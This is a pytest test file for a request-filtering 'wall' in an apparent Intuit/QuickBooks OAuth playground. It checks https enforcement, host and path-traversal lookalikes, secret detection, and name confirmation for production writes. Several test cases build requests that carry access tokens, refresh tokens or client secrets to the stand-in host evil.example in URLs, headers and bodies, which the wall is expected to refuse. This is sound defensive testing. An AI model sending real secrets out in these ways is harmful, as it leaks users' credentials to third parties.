"""The wall: each rule, and the ways in which a request might get past it."""

from base64 import b64encode
from collections.abc import Callable
from dataclasses import replace

import pytest

from grantlab.playground.request import (
    Auth,
    BasicOfKeyPair,
    BearerOfConnection,
    NoAuth,
)
from grantlab.playground.sending import Outgoing
from grantlab.playground.wall import (
    Guard,
    Protected,
    Rule,
    Target,
    Territory,
    WallError,
    changes_production,
    check_wall,
    territory_at,
    territory_of,
)
from grantlab.protocol.environment import (
    INTUIT_PRODUCTION,
    INTUIT_SANDBOX,
    Environment,
)
from grantlab.protocol.round_trip import Pairs
from grantlab.protocol.secret import Secret
from tests.support.invented import ACCESS_TOKEN, CLIENT_SECRET, REFRESH_TOKEN

SANDBOX = territory_of(Environment.SANDBOX, INTUIT_SANDBOX)
PRODUCTION = territory_of(Environment.PRODUCTION, INTUIT_PRODUCTION)
EMBEDDED = territory_at(Environment.EMBEDDED, "http://localhost:8484/intuit/")
SECRET = Protected(
    value=Secret(CLIENT_SECRET), words="the client secret of sandbox", territory=SANDBOX
)
API = "/v3/company/9341450000000101/customer"
NAMED = Guard(
    typed_name="Rosa’s Bakery",
    company_name="Rosa’s Bakery",
    realm_id="9341450000000101",
)


def at(
    host: str, path: str = "/", *, scheme: str = "https", port: int | None = None
) -> Target:
    usual = {"https": 443, "http": 80}
    return Target(
        scheme=scheme, host=host, port=port or usual.get(scheme, 1), path=path
    )


SANDBOX_API = at("sandbox-quickbooks.api.intuit.com", API)
PRODUCTION_API = at("quickbooks.api.intuit.com", API)
TOKEN = at("oauth.platform.intuit.com", "/oauth2/v1/tokens/bearer")
REVOCATION = at("developer.api.intuit.com", "/v2/oauth2/tokens/revoke")
FOREIGN = at("evil.example")
PROVIDER = at("localhost", "/intuit/x", scheme="http", port=8484)


def going_out(
    *,
    method: str = "GET",
    url: str = "https://a.example/",
    headers: Pairs = (),
    body: bytes = b"",
    auth: Auth | None = None,
) -> Outgoing:
    return Outgoing(
        method=method, url=url, headers=headers, body=body, auth=auth or NoAuth()
    )


def refusal(
    outgoing: Outgoing,
    target: Target,
    *,
    territory: Territory = SANDBOX,
    guard: Guard | None = None,
) -> Rule | None:
    """Return the rule that a request meets; ``None`` when it is let through."""
    try:
        check_wall(
            outgoing,
            target,
            territory=territory,
            protected=(SECRET,),
            read_guard=lambda: guard or Guard(),
        )
    except WallError as exc:
        return exc.rule
    return None


# --- schemes and headers


@pytest.mark.parametrize(
    ("target", "rule"),
    [
        pytest.param(FOREIGN, None, id="any host, over https"),
        pytest.param(at("evil.example", scheme="http"), Rule.SCHEME, id="over http"),
        pytest.param(
            replace(SANDBOX_API, scheme="http", port=80), Rule.SCHEME, id="its own"
        ),
        pytest.param(
            at("evil.example", scheme="ftp"), Rule.SCHEME, id="another scheme"
        ),
        pytest.param(at("localhost", scheme="http"), Rule.SCHEME, id="loopback"),
    ],
)
def test_real_hosts_are_asked_over_https_alone(
    target: Target, rule: Rule | None
) -> None:
    assert refusal(going_out(), target) is rule


def test_the_embedded_service_may_be_asked_over_http() -> None:
    assert refusal(going_out(), PROVIDER, territory=EMBEDDED) is None


@pytest.mark.parametrize(
    ("value", "rule"),
    [
        ("evil.example", None),
        ("EVIL.example:443", None),
        ("sandbox-quickbooks.api.intuit.com", Rule.HOST_HEADER),
        ("evil.example:8443", Rule.HOST_HEADER),
        ("evil.example:x", Rule.HOST_HEADER),
        ("", Rule.HOST_HEADER),
    ],
)
def test_a_typed_host_is_the_host_of_the_address(value: str, rule: Rule | None) -> None:
    assert refusal(going_out(headers=(("host", value),)), FOREIGN) is rule


@pytest.mark.parametrize(
    ("headers", "auth", "rule"),
    [
        pytest.param((("authorization", "x"),), NoAuth(), None, id="typed alone"),
        pytest.param((), BearerOfConnection(), None, id="chosen alone"),
        pytest.param(
            (("authorization", "x"),),
            BearerOfConnection(),
            Rule.TWO_CREDENTIALS,
            id="both",
        ),
        pytest.param(
            (("Authorization", "x"), ("authorization", "y")),
            NoAuth(),
            Rule.TWO_CREDENTIALS,
            id="typed twice",
        ),
    ],
)
def test_a_request_has_one_credential(
    headers: Pairs, auth: Auth, rule: Rule | None
) -> None:
    assert refusal(going_out(headers=headers, auth=auth), SANDBOX_API) is rule


# --- where credentials may go


@pytest.mark.parametrize("auth", [BearerOfConnection(), BasicOfKeyPair()])
@pytest.mark.parametrize(
    ("territory", "target", "is_own"),
    [
        pytest.param(SANDBOX, SANDBOX_API, True, id="its company"),
        pytest.param(SANDBOX, TOKEN, True, id="its token endpoint"),
        pytest.param(SANDBOX, REVOCATION, True, id="its revocation endpoint"),
        pytest.param(SANDBOX, PRODUCTION_API, False, id="the other environment"),
        pytest.param(
            SANDBOX, at("accounts.platform.intuit.com"), False, id="its UserInfo"
        ),
        pytest.param(SANDBOX, FOREIGN, False, id="a foreign host"),
        pytest.param(SANDBOX, at("intuit.com"), False, id="a host above"),
        pytest.param(
            SANDBOX,
            at("sandbox-quickbooks.api.intuit.com.evil.example"),
            False,
            id="a host that begins alike",
        ),
        pytest.param(
            SANDBOX,
            at("evil-sandbox-quickbooks.api.intuit.com"),
            False,
            id="a host that ends alike",
        ),
        pytest.param(
            SANDBOX, replace(SANDBOX_API, port=8443), False, id="another port"
        ),
        pytest.param(SANDBOX, PROVIDER, False, id="the embedded service"),
        pytest.param(EMBEDDED, PROVIDER, True, id="embedded: its service"),
        pytest.param(
            EMBEDDED, replace(PROVIDER, path="/intuit/../x"), False, id="climbing out"
        ),
        pytest.param(
            EMBEDDED,
            replace(PROVIDER, path="/intuit/..\\x"),
            False,
            id="by a backslash",
        ),
        pytest.param(
            EMBEDDED, replace(PROVIDER, path="/intuitive"), False, id="a longer name"
        ),
        pytest.param(EMBEDDED, replace(PROVIDER, path="/"), False, id="beside it"),
        pytest.param(EMBEDDED, SANDBOX_API, False, id="embedded: the real sandbox"),
    ],
)
def test_credentials_go_to_their_own_environment(
    territory: Territory, target: Target, auth: Auth, *, is_own: bool
) -> None:
    expected = {None} if is_own else {Rule.FOREIGN_HOST, Rule.SCHEME}

    assert refusal(going_out(auth=auth), target, territory=territory) in expected


def test_a_refusal_names_what_where_and_whose() -> None:
    with pytest.raises(WallError) as caught:
        check_wall(
            going_out(auth=BearerOfConnection()),
            FOREIGN,
            territory=SANDBOX,
            protected=(),
            read_guard=Guard,
        )

    assert str(caught.value) == (
        "the access token of a connection of sandbox goes only to the hosts of sandbox"
        " (oauth.platform.intuit.com, developer.api.intuit.com,"
        " sandbox-accounts.platform.intuit.com, sandbox-quickbooks.api.intuit.com),"
        " and https://evil.example is none of them"
    )


def basic(secret: str) -> str:
    return f"Basic {b64encode(f'ABclient:{secret}'.encode()).decode()}"


@pytest.mark.parametrize(
    "secret",
    [
        pytest.param(ACCESS_TOKEN, id="an access token"),
        pytest.param(REFRESH_TOKEN, id="a refresh token"),
        pytest.param(CLIENT_SECRET, id="a client secret"),
    ],
)
@pytest.mark.parametrize(
    "place",
    [
        lambda secret: going_out(url=f"https://evil.example/{secret}"),
        lambda secret: going_out(url=f"https://evil.example/?a=%22{secret}%22"),
        lambda secret: going_out(
            url="https://evil.example/?a=" + "".join(f"%{ord(c):02x}" for c in secret)
        ),
        lambda secret: going_out(headers=(("Authorization", f"Bearer {secret}"),)),
        lambda secret: going_out(headers=(("X-Note", f"see {secret}!"),)),
        lambda secret: going_out(headers=((secret, "x"),)),
        lambda secret: going_out(headers=(("Authorization", basic(secret)),)),
        lambda secret: going_out(body=f"a=1&token={secret}".encode()),
        lambda secret: going_out(body=f"a=%7B{secret}%7D".encode()),
        lambda secret: going_out(body=f'{{"token": "{secret}"}}'.encode()),
    ],
    ids=[
        "path", "query", "encoded", "bearer", "header", "header's name", "basic", "form",
        "form, encoded", "JSON",
    ],
)  # fmt: skip
def test_a_secret_is_not_carried_elsewhere_wherever_it_stands(
    place: Callable[[str], Outgoing], secret: str
) -> None:
    outgoing = place(secret)

    assert refusal(outgoing, FOREIGN) is Rule.FOREIGN_HOST
    assert refusal(outgoing, SANDBOX_API) is None


@pytest.mark.parametrize(
    "outgoing",
    [
        pytest.param(going_out(url="https://evil.example/?a=1+1=2%41"), id="address"),
        pytest.param(going_out(headers=(("X-Note", "1+1=2%41"),)), id="header"),
        pytest.param(going_out(body=b"1+1=2%41"), id="body"),
        pytest.param(
            going_out(headers=(("X-Note", "1%2B1=2%2541"),)), id="header, encoded"
        ),
        pytest.param(going_out(body=b"a=1%2B1%3D2%2541"), id="form, encoded"),
    ],
)
def test_a_secret_that_looks_encoded_is_found_as_it_is_and_encoded(
    outgoing: Outgoing,
) -> None:
    odd = replace(SECRET, value=Secret("1+1=2%41"))

    with pytest.raises(WallError):
        check_wall(
            outgoing, FOREIGN, territory=SANDBOX, protected=(odd,), read_guard=Guard
        )


def test_a_key_pair_of_one_environment_is_not_for_a_host_of_another() -> None:
    outgoing = going_out(body=CLIENT_SECRET.encode())

    assert refusal(outgoing, PRODUCTION_API, territory=PRODUCTION) is Rule.FOREIGN_HOST


def test_what_is_no_secret_may_go_anywhere() -> None:
    outgoing = going_out(
        headers=(("Authorization", "Bearer my-own-server's-key"),),
        body=b"da39a3ee5e6b4b0d3255bfef95601890afd80709",
    )

    assert refusal(outgoing, FOREIGN) is None


# --- production


@pytest.mark.parametrize(
    ("method", "headers", "territory", "target", "writes"),
    [
        pytest.param("GET", (), PRODUCTION, PRODUCTION_API, False, id="a reading"),
        pytest.param("HEAD", (), PRODUCTION, PRODUCTION_API, False, id="a head"),
        pytest.param("POST", (), PRODUCTION, PRODUCTION_API, True, id="a writing"),
        pytest.param("DELETE", (), PRODUCTION, PRODUCTION_API, True, id="a deletion"),
        pytest.param("OPTIONS", (), PRODUCTION, PRODUCTION_API, True, id="any other"),
        pytest.param("POST", (), PRODUCTION, TOKEN, True, id="a token request"),
        pytest.param("POST", (), PRODUCTION, REVOCATION, True, id="a revocation"),
        pytest.param("POST", (), PRODUCTION, FOREIGN, False, id="a foreign host"),
        pytest.param(
            "POST", (), SANDBOX, PRODUCTION_API, True, id="from another environment"
        ),
        pytest.param("POST", (), SANDBOX, SANDBOX_API, False, id="the sandbox"),
        pytest.param("POST", (), SANDBOX, TOKEN, False, id="a token of the sandbox"),
        pytest.param("POST", (), EMBEDDED, PROVIDER, False, id="the embedded service"),
        pytest.param(
            "GET",
            (("X-HTTP-Method-Override", "POST"),),
            PRODUCTION,
            PRODUCTION_API,
            True,
            id="a writing that calls itself a reading",
        ),
    ],
)
def test_what_may_change_production_is_known(
    method: str, headers: Pairs, territory: Territory, target: Target, *, writes: bool
) -> None:
    outgoing = going_out(method=method, headers=headers)

    assert changes_production(outgoing, target, territory) is writes
    assert (
        refusal(outgoing, target, territory=territory) is Rule.COMPANY_NAME
    ) is writes
    assert refusal(outgoing, target, territory=territory, guard=NAMED) is None


@pytest.mark.parametrize(
    ("guard", "is_let_through"),
    [
        pytest.param(NAMED, True, id="the name"),
        pytest.param(
            replace(NAMED, typed_name="  Rosa’s   Bakery "), True, id="with more spaces"
        ),
        pytest.param(replace(NAMED, typed_name=""), False, id="nothing"),
        pytest.param(replace(NAMED, typed_name="Rosa"), False, id="a part"),
        pytest.param(replace(NAMED, typed_name="rosa’s bakery"), False, id="in small"),
        pytest.param(replace(NAMED, company_name=None), False, id="no name is known"),
        pytest.param(
            replace(NAMED, typed_name="", company_name=""), False, id="an empty name"
        ),
        pytest.param(
            replace(NAMED, realm_id="9341450000000999"), False, id="another company"
        ),
        pytest.param(replace(NAMED, realm_id=None), False, id="no company"),
    ],
)
def test_production_is_changed_only_under_its_companys_name(
    guard: Guard, *, is_let_through: bool
) -> None:
    found = refusal(
        going_out(method="POST"), PRODUCTION_API, territory=PRODUCTION, guard=guard
    )

    assert found is (None if is_let_through else Rule.COMPANY_NAME)
